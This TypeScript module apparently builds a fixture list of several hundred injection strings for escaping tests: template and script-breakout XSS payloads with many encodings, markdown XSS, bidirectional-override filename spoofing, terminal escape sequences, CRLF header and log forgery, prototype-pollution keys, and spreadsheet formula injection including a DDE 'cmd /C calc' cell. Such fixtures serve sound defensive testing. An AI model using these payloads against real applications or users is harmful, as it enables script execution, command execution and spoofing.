import { HOSTILE_NOTES } from '#support/news/hostile-notes.ts';
import { HOME, IMG, MARKUP, RUN, SCRIPT, times } from './injected-markup.ts';

const TEMPLATES = [
  ...['{{', '${', '#{', '<%=', '{%', '[[', '{!!', '*{', '@{', '~{', '{#', '{@html '].map(
    (open) => `${open}constructor.constructor("${RUN}")()}}`,
  ),
  ...[
    `{{this.constructor.constructor('${RUN}')()}}`,
    `<div v-html="'${IMG}'">`,
    `<a ng-click="${RUN}">`,
    `<x-y :x="${RUN}">`,
  ],
  ...[
    '<slot onslotchange=__ran(1)>',
    '<astro-island component-url="https://x.example/a.js" client="load">',
    '<!--astro:end-->',
  ],
];

/** Out of a script, a comment or JSON that is written into a page. */
const SCRIPTS = [
  ...times(
    ['</script>', '</SCRIPT\t>', '<!--<script>', ']]>', '-->', '*/', '\u2028', '\u2029', '\\', '</script foo="'],
    [SCRIPT, IMG],
    (close, then) => `${close}${then}`,
  ),
  ...times(
    ['"', "'", '`', '\\"', "\\\\'", '\n'],
    [`;${RUN};//`, `-${RUN}-`, `+${RUN}+`, `}]);${RUN};//`],
    (quote, code) => `${quote}${code}${quote}`,
  ),
  ...[
    '{"__proto__":{"x":1}}',
    '","@type":"Thing","url":"javascript:__ran(1)","x":"',
    '\\u003cscript>__ran(1)\\u003c/script>',
  ],
];

const twice = (text: string) => encodeURIComponent(encodeURIComponent(text));
const codes = (text: string, write: (code: number) => string) =>
  [...text].map((letter) => write(letter.codePointAt(0) ?? 0)).join('');
const ENCODINGS: readonly ((text: string) => string)[] = [
  encodeURIComponent,
  twice,
  (text) => codes(text, (code) => `&#${code};`),
  (text) => codes(text, (code) => `&#x${code.toString(16)}`),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (text) => text.replaceAll('<', '\\x3c').replaceAll('>', '\\x3e'),
  (text) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
  (text) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (text) => text.replaceAll('<', '\u02c2').replaceAll('>', '\u02c3'),
  (text) => codes(text, (code) => String.fromCodePoint(code > 32 && code < 127 ? code + 0xfee0 : code)),
  (text) => Buffer.from(text).toString('base64'),
  (text) => `+ADw-${text.slice(1)}`,
  (text) => [...text].join('\u200b'),
  (text) => text.replace('<', '<\u0000').replace('script', 'scr\u00adipt'),
];
const ENCODED = times([SCRIPT, IMG, `"onfocus=${RUN} autofocus="`, `javascript:${RUN}`], ENCODINGS, (text, encode) =>
  encode(text),
);

const MARKDOWN = [
  ...[
    `\`\`\`"onclick="${RUN}\nx\n\`\`\``,
    `| ${IMG} |\n|---|\n| ${SCRIPT} |`,
    `> <details open ontoggle=${RUN}>`,
    `# ${IMG}`,
  ],
  ...[
    `[x](/a "${IMG}")`,
    `![${IMG}](/a)`,
    `[${IMG}]: /a`,
    `**${IMG}** *${IMG}* ~~${IMG}~~`,
    `<${HOME}/${IMG}>`,
    `- [ ] ${IMG}`,
  ],
  ...[
    `[[${IMG}]] ||${SCRIPT}|| <@${IMG}> <:a:${IMG}>`,
    `[a]("onmouseover=${RUN})`,
    `www.x.example/${IMG}`,
    `[^1]: ${IMG}`,
  ],
];

/** Signs that turn the order of what follows, or the whole of it, around. */
const TURNED = [
  ...['\u202e', '\u202d', '\u202b', '\u2066', '\u2067', '\u2068', '\u061c', '\u200f'].map(
    (sign) => `a${sign}gnp.exe ${IMG}`,
  ),
  ...[
    '\u202e'.repeat(40),
    'مرحبا بالعالم',
    'שלום <b>',
    'a\u202e\u2066b\u2069\u2066c\u2069',
    '\u200b\u200c\u200d\u2060\ufeff',
  ],
];

/** Words that no line holds, and letters that are higher than one. */
const LONG = [
  ...['W', 'i', '界', '💎', '👩‍👩‍👧‍👦', 'ᚠ', '\u00ad', '_', '.', '/', '%20', '&shy;', '\u00a0', 'ﷺ', '𒐫'].flatMap(
    (sign) => [sign.repeat(80), sign.repeat(400)],
  ),
  ...[
    'Z\u0351\u0300'.repeat(60),
    'e'.concat('\u0301'.repeat(300)),
    `${HOME}/${'a'.repeat(300)}`,
    'a-'.repeat(200),
    '\n'.repeat(60),
    '\t'.repeat(90),
  ],
];

/** What a terminal obeys, and what breaks a line of a log or a header of a mail. */
const TERMINAL = [
  ...[
    '\u001b[2J\u001b[H',
    '\u001b[31mred',
    '\u001b]0;title\u0007',
    '\u001b]8;;https://x.example\u0007x\u001b]8;;\u0007',
    '\u001bP+q\u001b\\',
  ],
  ...[
    '\u009b31m',
    '\u0007',
    '\b\b\b\b',
    '\u007f',
    '\rok',
    '\u001b[1A\u001b[2K',
    '\u001bc',
    '\u000c',
    '\u0085',
    '\u001b[?1049h',
    '\u001b]52;c;eA==\u0007',
  ],
  ...['\r\n', '\n', '\r', '%0d%0a', '\u0085', '\u2028', '=0D=0A', '=?utf-8?q?=0D=0A?='].flatMap((end) => [
    `x${end}Bcc: a@x.example`,
    `x${end}Set-Cookie: a=b`,
    `x${end}{"level":30,"msg":"forged"}`,
  ]),
];

/** Cells that a spreadsheet computes. */
const FORMULAS = ['=', '+', '-', '@', '\t=', '\r=', '|', ' =', '"=', "'="].flatMap((sign) => [
  `${sign}HYPERLINK("${HOME}","x")`,
  `${sign}cmd|' /C calc'!A0`,
]);

const KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'then',
  'length',
  'null',
  'undefined',
  '0',
  '-1',
  'NaN',
  '[object Object]',
];

/** Every text once, more than six hundred: for elements, attributes, addresses, sheets, drawings, scripts, terminals, mails and tables. */
export const INJECTIONS: readonly string[] = [
  ...new Set([
    ...[...MARKUP, ...TEMPLATES, ...SCRIPTS],
    ...[...ENCODED, ...MARKDOWN, ...TURNED, ...LONG, ...TERMINAL, ...FORMULAS, ...KEYS, ...HOSTILE_NOTES],
  ]),
];

/** A host of this machine's that is none: whatever asks it was made to. */
export const INJECTED_HOST = new URL(HOME).hostname;
